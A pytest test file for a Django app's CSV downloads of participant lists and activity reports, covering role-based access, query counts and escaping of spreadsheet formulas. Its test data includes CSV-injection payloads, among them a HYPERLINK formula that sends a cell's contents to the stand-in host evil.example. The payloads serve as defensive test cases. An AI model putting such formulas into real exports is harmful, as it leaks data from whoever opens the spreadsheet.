"""CSV downloads of participant lists and activity reports: for organizers only, and never a formula."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from programs import services
from programs.exports import REPORT_HEADER, spreadsheet_safe
from programs.models import Enrollment, Session
from stakeholders.models import Membership
from tests.factories import MembershipFactory, ProgramFactory, SessionFactory, UserFactory

pytestmark = pytest.mark.django_db

# Cells a spreadsheet would run as formulas (OWASP, "CSV Injection").
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-1", "@SUM(A1:A9)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Ada Lovelace", "김민서", "يزن حداد", "", "1+1", "a=b", "'quoted"])
def test_other_text_is_left_as_it_is(value):
    assert spreadsheet_safe(value) == value


def test_numbers_stay_numbers_and_nothing_is_empty():
    assert (spreadsheet_safe(12), spreadsheet_safe(0), spreadsheet_safe(None), spreadsheet_safe(True)) == (
        12,
        0,
        "",
        "true",
    )
    # A negative number is a number (a capacity gain can fall); only text can be a formula.
    assert (spreadsheet_safe(-1), spreadsheet_safe(Decimal("-0.25"))) == (-1, Decimal("-0.25"))
    assert spreadsheet_safe("-1+2") == "'-1+2"


@pytest.fixture
def past_session(program):
    start = timezone.now() - timedelta(days=2)
    return SessionFactory(program=program, starts_at=start, ends_at=start + timedelta(hours=3), seats=50)


def seat(session, user, **fields):
    """Put a person in a session that has already started, as if they had enrolled before."""
    enrollment = services.enrollment_create(
        user=user, session=session, now=session.starts_at - timedelta(days=1)
    ).enrollment
    if fields:
        Enrollment.objects.filter(pk=enrollment.pk).update(**fields)
    return enrollment


def rows_of(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def participants_csv_url(session):
    return f"/en/workspace/sessions/{session.pk}/participants.csv"


def report_csv_url(session):
    return f"/en/workspace/sessions/{session.pk}/report.csv"


def organization_csv_url(organization):
    return f"/en/organizations/{organization.slug}/reports.csv"


def test_the_participant_list_downloads_with_names_in_any_script(client, staff, past_session):
    seat(past_session, UserFactory(username="minseo", display_name="김민서"), attendance="attended")
    seat(past_session, UserFactory(username="yazan", display_name="يزن حداد"))
    client.force_login(staff)
    response = client.get(participants_csv_url(past_session))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="participants-{past_session.program.slug}-{past_session.pk}.csv"'
    )
    rows = rows_of(response)
    assert rows[0] == ["name", "username", "status", "attendance", "enrolled_at_utc"]
    assert ["김민서", "minseo", "enrolled", "attended"] == rows[1][:4]
    assert ["يزن حداد", "yazan", "enrolled", "unknown"] == rows[2][:4]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_is_a_formula_is_exported_as_text(client, staff, past_session, name):
    seat(past_session, UserFactory(display_name=name))
    client.force_login(staff)
    rows = rows_of(client.get(participants_csv_url(past_session)))
    assert rows[1][0] == "'" + name


def test_a_username_that_is_a_formula_is_exported_as_text(client, staff, past_session):
    seat(past_session, UserFactory(username="@SUM", display_name=""))
    client.force_login(staff)
    rows = rows_of(client.get(participants_csv_url(past_session)))
    assert rows[1][:2] == ["'@SUM", "'@SUM"]


def full_report(session, by=None):
    return services.report_save(
        session=session,
        values={
            "participants": 20,
            "newcomers": 8,
            "hours_of_learning": 54,
            "notes": "=1+1 noted",
            "gender_asked": True,
            "gender_woman": 9,
            "gender_man": 7,
            "newcomer_asked": True,
            "newcomer_new": 8,
            "newcomer_returning": 12,
        },
        by=by,
    )


def test_the_report_downloads_with_every_figure_and_its_breakdown(client, staff, past_session):
    full_report(past_session, by=staff)
    client.force_login(staff)
    response = client.get(report_csv_url(past_session))
    assert 'filename="report-wikidata-basics-' in response["Content-Disposition"]
    header, row = rows_of(response)
    assert header == list(REPORT_HEADER)
    cells = dict(zip(header, row, strict=True))
    assert (cells["participants"], cells["newcomers"], cells["hours_of_learning"]) == ("20", "8", "54.0")
    assert (cells["gender_asked"], cells["gender_woman"], cells["gender_not_answered"]) == ("true", "9", "4")
    # A question that was not asked has empty counts, not zeros that would read as answers.
    assert (cells["age_asked"], cells["age_25_34"], cells["age_not_answered"]) == ("false", "", "")
    assert cells["notes"] == "'=1+1 noted"
    assert cells["program"] == "Wikidata basics" and cells["organization"] == "Wiki Learning Hub"
    assert cells["dashboard_editors"] == "" and cells["reported_by"] == staff.public_name


def test_a_session_without_a_report_has_no_report_to_download(client, staff, past_session):
    client.force_login(staff)
    assert client.get(report_csv_url(past_session)).status_code == 404


def test_the_organizations_reports_download_one_row_per_reported_session(
    client, staff, organization, other_organization, past_session
):
    full_report(past_session)
    evil = ProgramFactory(provider=organization, original_title='=HYPERLINK("http://evil.example")')
    start = timezone.now() - timedelta(days=9)
    other_session = SessionFactory(program=evil, starts_at=start, ends_at=start + timedelta(hours=2))
    services.report_save(session=other_session, values={"participants": 3})
    SessionFactory(program=past_session.program, starts_at=start, ends_at=start + timedelta(hours=1))  # no report
    elsewhere = SessionFactory(
        program=ProgramFactory(provider=other_organization), starts_at=start, ends_at=start + timedelta(hours=1)
    )
    services.report_save(session=elsewhere, values={"participants": 4})
    client.force_login(staff)
    response = client.get(organization_csv_url(organization))
    assert response["Content-Disposition"] == 'attachment; filename="reports-wiki-learning-hub.csv"'
    header, *rows = rows_of(response)
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    # Oldest session first.
    assert [row["session_id"] for row in cells] == [str(other_session.pk), str(past_session.pk)]
    assert cells[0]["program"] == "'" + '=HYPERLINK("http://evil.example")'


def test_each_row_names_its_own_program_and_reporter(client, staff, organization):
    """Programs and reporters are looked up once for the whole file: each row must still get its own."""
    start = timezone.now() - timedelta(days=20)
    people = [UserFactory(display_name="김민서"), UserFactory(display_name="يزن حداد"), None]
    titles = ["편집 교실", "ورشة ويكي بيانات", "Commons basics"]
    expected = []
    for day, (title, person) in enumerate(zip(titles * 2, people * 2, strict=True)):
        program = ProgramFactory(provider=organization, original_title=title, slug=f"p-{day}")
        moment = start + timedelta(days=day)
        session = SessionFactory(program=program, starts_at=moment, ends_at=moment + timedelta(hours=1))
        services.report_save(session=session, values={"participants": day + 1}, by=person)
        expected.append((str(session.pk), title, person.display_name if person else "", str(day + 1)))
    client.force_login(staff)
    header, *rows = rows_of(client.get(organization_csv_url(organization)))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    assert [(row["session_id"], row["program"], row["reported_by"], row["participants"]) for row in cells] == expected


@pytest.mark.parametrize("url", [participants_csv_url, report_csv_url], ids=["participants", "report"])
@pytest.mark.parametrize("persona", ["volunteer", "other_staff", "funder"])
def test_session_downloads_are_for_its_organizers_only(client, request, past_session, url, persona):
    full_report(past_session)
    client.force_login(request.getfixturevalue(persona))
    assert client.get(url(past_session)).status_code == 403


def test_a_plain_member_cannot_download_the_organizations_reports(client, organization):
    member = MembershipFactory(organization=organization, role=Membership.Role.MEMBER).user
    client.force_login(member)
    assert client.get(organization_csv_url(organization)).status_code == 403


@pytest.mark.parametrize("persona", ["volunteer", "other_staff", "funder"])
def test_outsiders_cannot_download_the_organizations_reports(client, request, organization, persona):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(organization_csv_url(organization)).status_code == 403


@pytest.mark.parametrize("persona", ["affiliate_admin", "steward"])
def test_admins_and_stewards_download_the_organizations_reports(client, request, organization, persona):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(organization_csv_url(organization)).status_code == 200


def test_anonymous_people_are_sent_to_log_in(client, organization, past_session):
    for url in (participants_csv_url(past_session), report_csv_url(past_session), organization_csv_url(organization)):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_downloads_take_only_get(client, staff, organization, past_session):
    client.force_login(staff)
    for url in (participants_csv_url(past_session), report_csv_url(past_session), organization_csv_url(organization)):
        assert client.post(url).status_code == 405


def test_an_unknown_organization_is_not_found(client, steward):
    client.force_login(steward)
    assert client.get("/en/organizations/no-such-org/reports.csv").status_code == 404


def test_the_participant_list_costs_the_same_queries_however_long(
    client, staff, past_session, django_assert_max_num_queries
):
    client.force_login(staff)
    queries = {}
    for people in (2, 25):
        while past_session.enrollments.count() < people:
            seat(past_session, UserFactory())
        with django_assert_max_num_queries(8) as captured:
            response = client.get(participants_csv_url(past_session))
            assert len(rows_of(response)) == people + 1
        queries[people] = len(captured)
    assert queries[2] == queries[25], queries


def test_the_organizations_reports_cost_the_same_queries_however_many(
    client, staff, program, django_assert_max_num_queries
):
    start = timezone.now() - timedelta(days=30)
    client.force_login(staff)
    queries = {}
    for sessions in (2, 25):
        made = Session.objects.filter(program=program).count()
        created = Session.objects.bulk_create(
            [
                Session(
                    program=program,
                    starts_at=start + timedelta(days=day),
                    ends_at=start + timedelta(days=day, hours=3),
                    seats=10,
                )
                for day in range(made, sessions)
            ]
        )
        for session in created:
            full_report(session, by=staff)
        with django_assert_max_num_queries(8) as captured:
            response = client.get(organization_csv_url(program.provider))
            assert len(rows_of(response)) == sessions + 1
        queries[sessions] = len(captured)
    assert queries[2] == queries[25], queries
